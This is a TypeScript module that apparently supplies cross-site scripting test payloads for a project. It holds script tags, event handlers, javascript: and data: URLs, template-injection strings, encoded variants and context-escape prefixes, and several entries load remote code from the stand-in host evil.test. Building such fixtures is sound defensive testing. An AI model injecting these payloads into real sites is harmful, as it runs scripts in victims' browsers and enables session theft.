/**
 * Strings that run a script if a page inserts them into markup, an attribute, a URL, a style or a script. Each calls `ran()` or a dialog of the
 * browser. Made for this project: each basic vector in the contexts that it could escape from.
 */

/** Elements that run without user interaction. */
const ELEMENTS = [
  '<script>ran()</script>',
  '<script src="https://evil.test/x.js"></script>',
  '<script type="module">ran()</script>',
  '<img src=x onerror=ran()>',
  '<img src=x onerror="ran()" style="display:none">',
  '<image src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran()</script></svg>#x">',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<embed src="javascript:ran()">',
  '<video><source onerror=ran()></video>',
  '<audio src=x onerror=ran()></audio>',
  '<details open ontoggle=ran()>',
  '<input autofocus onfocus=ran()>',
  '<marquee onstart=ran()>',
  '<body onload=ran()>',
  '<style onload=ran()></style>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<link rel=stylesheet href="https://evil.test/x.css" onerror=ran()>',
  '<base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  '<form><button formaction="javascript:ran()" autofocus></form>',
  '<math><mtext></table><img src=x onerror=ran()></mtext></math>',
  '<template shadowrootmode=open><img src=x onerror=ran()></template>',
  '<x onpointerrawupdate=ran() style="position:fixed;inset:0">',
  '<wallet-modal onclick=ran() open></wallet-modal>',
] as const

/** Prefix and suffix of a vector to escape from its context. */
const CONTEXTS: readonly (readonly [string, string])[] = [
  ['', ''],
  ['"><', ''],
  ["'>", ''],
  ['</style>', '<style>'],
  ['</script>', '<script>'],
  ['</textarea></title></template>', ''],
  ['-->', '<!--'],
  [']]>', ''],
]

const ATTRIBUTES = [
  '" onmouseover="ran()" x="',
  "' onfocus='ran()' autofocus x='",
  '` onload=ran() `',
  ' onpointerenter=ran() style=position:fixed;inset:0 ',
] as const

/** Values for links and pictures. */
const URLS = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  ' \u0001javascript:ran()',
  'java\tscript:ran()',
  'java\nscript:ran()',
  'javascript://https://good.test/%0aran()',
  'javascript&colon;ran()',
  '&#106;avascript:ran()',
  'vbscript:ran()',
  'data:text/html,<script>ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icmFuKCkiLz4=',
  'data:application/xhtml+xml,<x xmlns="http://www.w3.org/1999/xhtml"><script>ran()</script></x>',
  'blob:https://evil.test/1',
  'filesystem:https://evil.test/x',
  'view-source:javascript:ran()',
  'intent://x#Intent;S.browser_fallback_url=javascript:ran();end',
  'https://good.test@evil.test/',
  '//evil.test/x.js',
  '\\\\evil.test\\x.js',
] as const

const SCRIPTS_AND_STYLES = [
  "';ran();//",
  '";ran();//',
  '`;ran();`',
  '${ran()}',
  '{{constructor.constructor("ran()")()}}',
  '#{ran()}',
  '<%= ran() %>',
  '\u2028ran()\u2029',
  '\\u003cimg src=x onerror=ran()\\u003e',
  '&lt;img src=x onerror=ran()&gt;',
  '%3Cimg%20src%3Dx%20onerror%3Dran()%3E',
  '\ufe64img src=x onerror=ran()\ufe65',
  '+ADw-script+AD4-ran()+ADw-/script+AD4-',
  'x;background:url(https://evil.test/x)',
  'url("javascript:ran()")',
  'expression(ran())',
  '}*{background:url(https://evil.test/x)}',
  '__proto__',
  'constructor',
  'toString',
] as const

/** All payloads, each once. */
export const XSS_PAYLOADS: readonly string[] = [
  ...CONTEXTS.flatMap(([before, after]) => ELEMENTS.map((element) => `${before}${element}${after}`)),
  ...ATTRIBUTES,
  ...ATTRIBUTES.map((attribute) => `x${attribute}`),
  ...ATTRIBUTES.map((attribute) => `https://good.test/${attribute}`),
  ...URLS,
  ...SCRIPTS_AND_STYLES,
]
